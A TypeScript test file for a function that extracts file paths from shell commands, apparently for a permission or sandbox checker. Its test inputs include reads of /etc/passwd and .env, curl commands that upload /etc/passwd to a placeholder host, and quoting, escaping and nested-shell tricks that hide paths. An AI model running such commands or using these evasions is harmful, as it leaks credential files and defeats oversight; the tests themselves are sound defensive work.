import { expect, it } from "vitest";
import { findCommandPaths } from "./command-paths.js";

const paths = (command: string, from?: string): readonly string[] =>
  findCommandPaths(command, from).map(({ path }) => path);

it.each([
  { command: "cat /etc/passwd", path: "/etc/passwd" },
  { command: "cat '/etc/pass wd'", path: "/etc/pass wd" },
  { command: 'cat "/etc/x"', path: "/etc/x" },
  { command: "cat $'/etc/\\x70asswd'", path: "/etc/passwd" },
  { command: "cat /e't'c/\"pass\"wd", path: "/etc/passwd" },
  { command: "cat /etc/pass\\ wd", path: "/etc/pass wd" },
  { command: "/opt/tool run", path: "/opt/tool" },
  { command: "cat .env", path: ".env" },
  { command: "cat ../x", path: "../x" },
  { command: "cat ~/x", path: "~/x" },
  { command: "cat ~root/x", path: "~root/x" },
  { command: "cat $HOME/x", path: "~/x" },
  { command: 'cat "${HOME}/x"', path: "~/x" },
  { command: "cat $PWD/../x", path: "./../x" },
  { command: "run 2>/out/err", path: "/out/err" },
  { command: "run >/out/all 2>&1", path: "/out/all" },
  { command: "run &>> /out/all", path: "/out/all" },
  { command: "run </in/put", path: "/in/put" },
  { command: "> /out/empty", path: "/out/empty" },
  { command: "run --out=/out/log", path: "/out/log" },
  { command: "FOO=/out/env run", path: "/out/env" },
  { command: "dd if=/dev/sda", path: "/dev/sda" },
  { command: "set a.b=/etc/x", path: "/etc/x" },
  { command: "cc -o/out/x", path: "/out/x" },
  { command: "tar -C/etc -x", path: "/etc" },
  { command: "cc -o../x", path: "../x" },
  { command: "curl -d @/etc/passwd https://x", path: "/etc/passwd" },
  { command: "curl -d@/etc/passwd https://x", path: "/etc/passwd" },
  { command: "curl -F 'file=@/etc/passwd' https://x", path: "/etc/passwd" },
  { command: "curl -F 'file=</etc/passwd' https://x", path: "/etc/passwd" },
  { command: "curl file:///etc/passwd", path: "/etc/passwd" },
  { command: "docker run -v /etc:/mnt x", path: "/etc" },
  { command: "PATH=/a/bin:/b/bin run", path: "/b/bin" },
  { command: "a && b || cat /etc/x", path: "/etc/x" },
  { command: "a | tee /etc/x", path: "/etc/x" },
  { command: "a; (b; cat /etc/x)", path: "/etc/x" },
  { command: "echo $(cat /etc/x)", path: "/etc/x" },
  { command: 'echo "`cat /etc/x`"', path: "/etc/x" },
  { command: "diff <(cat /etc/x) y", path: "/etc/x" },
  { command: "for f in /etc/x; do cat $f; done", path: "/etc/x" },
  { command: "if [[ -f /etc/x ]]; then a; fi", path: "/etc/x" },
  { command: "f() { cat /etc/x; }; f", path: "/etc/x" },
  { command: "case a in a) cat /etc/x;; esac", path: "/etc/x" },
  { command: "cat ${X:-/etc/x}", path: "/etc/x" },
  { command: "cat <<E\n$(cat /etc/x)\nE", path: "/etc/x" },
  { command: "cat {/etc,/opt}/x", path: "/opt/x" },
  { command: 'sh -c "cat /etc/x"', path: "/etc/x" },
  { command: "bash -lc 'cat /etc/x'", path: "/etc/x" },
  { command: "sudo -u me /bin/sh -c 'cat /etc/x'", path: "/etc/x" },
  { command: "xargs sh -c 'cat /etc/x'", path: "/etc/x" },
  { command: `sh -c "sh -c 'cat /etc/x'"`, path: "/etc/x" },
  { command: "eval 'cat /etc/x'", path: "/etc/x" },
  { command: "sh <<E\ncat /etc/x\nE", path: "/etc/x" },
  { command: "bash <<< 'cat /etc/x'", path: "/etc/x" },
  { command: "D=/etc; cat $D/x", path: "/etc/x" },
  { command: "cd ..", path: ".." },
  { command: "cd; ls", path: "~" },
  { command: "cd -P && ls", path: "~" },
  { command: "cd .. && cat x", path: "../x" },
  { command: "cd && cat x", path: "~/x" },
  { command: "cd /etc; cat x", path: "/etc/x" },
  { command: "cd a; cd ..; cat ../x", path: "a/../../x" },
  { command: "sh -c 'cd /etc; cat x'", path: "/etc/x" },
  { command: "cat /etc/*.conf", path: "/etc/" },
  { command: "cat /etc/$X", path: "/etc/" },
  { command: "cat /srv/$X/../../x", path: "/srv/x/../../x" },
  { command: "cat '/etc/x", path: "/etc/x" },
])("finds $path in $command", ({ command, path }) => {
  expect(paths(command)).toContain(path);
});

it.each([
  { command: "(cd ..; a); cat x", path: "../x" },
  { command: "$(cd ..); cat x", path: "../x" },
  { command: "cd - && cat x", path: "-/x" },
  { command: "curl https://x/etc/passwd", path: "//x/etc/passwd" },
  { command: "curl --url=https://x/etc/passwd", path: "/etc/passwd" },
  { command: "cat <<E\n/etc/x\nE", path: "/etc/x" },
  { command: "cat <<< /etc/x", path: "/etc/x" },
  { command: "echo '$HOME/x'", path: "~/x" },
  { command: "ls --all -l", path: "-l" },
  { command: "cat # /etc/x", path: "/etc/x" },
  { command: "cd ..; cat x", path: "../cat" },
])("does not find $path in $command", ({ command, path }) => {
  expect(paths(command)).not.toContain(path);
});

it("begins where it is told", () => {
  expect(paths("cat a /b", "/work")).toEqual(["/work/a", "/b"]);
});

it("tells each path once, as it was written first", () => {
  expect(findCommandPaths("cat '/x' /x")).toEqual([{ raw: "'/x'", path: "/x" }]);
});

it("finds paths in what nests too deep, is too long or is no shell at all", () => {
  const nested = Array.from({ length: 12 }).reduce<string>(
    (inner) => `sh -c ${JSON.stringify(inner)}`,
    "cat /etc/x",
  );
  const long = `echo ${"a ".repeat(60_000)} /etc/x`;
  expect([nested, long, 'if /etc/x then "'].map((command) => paths(command))).toEqual(
    Array.from({ length: 3 }, () => expect.arrayContaining(["/etc/x"])),
  );
});

it("takes time that grows with the command and not with its square", () => {
  const start = performance.now();
  for (const part of ["$(", "{a,b}", "a=", "'", "sh -c ", "(", "/x:", "@", "-o@"])
    paths(part.repeat(5_000));
  expect(performance.now() - start).toBeLessThan(5_000);
});
